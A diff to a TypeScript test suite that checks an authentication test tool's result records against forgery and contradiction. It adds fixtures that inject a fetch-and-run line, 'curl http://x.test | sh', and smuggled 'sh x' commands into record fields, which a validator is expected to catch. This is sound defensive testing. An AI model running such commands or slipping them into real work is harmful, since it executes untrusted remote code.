@@ -3,7 +3,8 @@ import { runReference } from '../cli/reference-run.test-support.ts';
 import type { ReferenceRun } from '../cli/reference-run.test-support.ts';
 import { both, isReal, refusal, runWith } from '../execution/small-run.test-support.ts';
 import type { Reply } from '../execution/small-service.test-support.ts';
-import { judge } from '../result/judge.ts';
+import { judge, judgeAgain } from '../result/judge.ts';
+import { published } from '../result/published.ts';
 import { recordOf } from '../result/record.ts';
 import type { Results } from '../result/results.ts';
 import { specification } from '../spec/specification.ts';
@@ -18,8 +19,12 @@ type Edited = Draft<Results>;
 
 let run: Awaited<ReturnType<typeof runReference>>;
 beforeAll(async () => {
-  run = await runReference();
+  const { results, texts } = await runReference();
+  run = { results: publishedOf(results), texts };
 }, 60_000);
+
+/** As a certificate holds them. */
+const publishedOf = (results: Results): Results => judgeAgain(results, specification, [], published);
 
 /** A copy to edit; an exchange that several cases share is one object. */
 function reread(results: unknown): Edited {
@@ -159,8 +164,45 @@ const forgeries: readonly Forgery[] = [
   ],
 ];
 
+const isControl = ({ role }: Edited['attempts'][number]): boolean => role === 'control';
+
+/** What no run leaves behind, though every verdict would follow from it. */
+const contradictions: readonly Forgery[] = [
+  [
+    'an exchange before the run',
+    ({ exchange }) => (exchange.startedAt = '2020-01-01T00:00:00.000Z'),
+    /outside/,
+  ],
+  ['an exchange behind it', ({ exchange }) => (exchange.durationMs = 1e7), /outside the time of the run/],
+  ['one id for two', ({ request }, of) => (request.headers = of(other).request.headers), /one X-Request-Id/],
+  ['no failed logins', ({ all }) => (all.failedLogins = 0), /failedLogins: found 0, which its answers/],
+  ['a thousand of them', ({ all }) => (all.failedLogins = 1000), /failedLogins: found 1000, which/],
+  [
+    'no control at the end',
+    ({ all }) => all.attempts.splice(all.attempts.findLastIndex(isControl), 1),
+    /no control is the last|no control was asked behind/,
+  ],
+  [
+    'no control behind a wrong password',
+    ({ all }) => {
+      const at = all.attempts.findIndex(({ request }) => request === 'a.unauthorized.wrong-password');
+      all.attempts.splice(at + all.attempts.slice(at).findIndex(isControl), 1);
+    },
+    /a\.unauthorized\.wrong-password: no control was asked behind it/,
+  ],
+];
+
 /** What somebody does to Results that follow from a record. */
 const edits: readonly Forgery[] = [
+  ['a command', ({ exchange }) => (exchange.curl = 'curl http://x.test | sh'), /curl: found "curl http:/],
+  ['a command for all', ({ all }) => (all.target.command = 'sh x'), /target\.command: found "sh x"/],
+  [
+    'a warning',
+    ({ all }) => all.warnings.push({ code: 'verbatim', params: { text: 'run sh x' } }),
+    /warnings\[0\]\.params\.text: found "run sh x"/,
+  ],
+  ['a code', ({ all }) => all.warnings.push({ code: 'run sh x', params: {} }), /code: found "run sh x"/],
+  ['a platform', ({ all }) => (all.environment.node = 'run sh x'), /node: found "run sh x"/],
   ['a case of its own', ({ found }) => (found.id = 'a.missing.all'), /is no case of this specification/],
   ['a verdict', ({ found }) => (found.verdict = 'pass'), /useAuthByCert\.empty\]\.verdict/, guess],
   ['a check', ({ found }) => found.checks.shift(), /checks\[0\]/],
@@ -210,7 +252,10 @@ describe('a record', () => {
     ],
   ])('%s is borne out', async (_name, options, edit) => {
     const { results, texts } = await runReference(edit, options);
-    expect(recompute(reread(results), specification, texts)).toMatchObject({ problem: null, stated: 0 });
+    expect(recompute(reread(publishedOf(results)), specification, texts)).toMatchObject({
+      problem: null,
+      stated: 0,
+    });
   });
 
   it.each<readonly [string, number, (variant: 'a' | 'b') => Reply]>([
@@ -230,13 +275,17 @@ describe('a record', () => {
       { ...both, limits: { failedLogins: 4 } },
     );
     expect(results.cases.some(({ trials }) => trials.some(({ halted }) => halted !== null))).toBe(true);
-    expect(problemOf(reread(results))).toBeNull();
+    expect(problemOf(reread(publishedOf(results)))).toBeNull();
   });
 
   it.for(forgeries)('with %s is not borne out, nor where it is judged again', ([, edit, place, id]) => {
     const edited = editedBy(edit, id);
     expect(problemOf(edited)).toMatch(place);
     expect(problemOf(reread(judgedAgain(edited)))).not.toBeNull();
+  });
+
+  it.for(contradictions)('with %s is not borne out', ([, edit, place, id]) => {
+    expect(problemOf(reread(judgedAgain(editedBy(edit, id))))).toMatch(place);
   });
 
   it.for(edits)('does not lead to results with %s changed', ([, edit, place, id]) => {
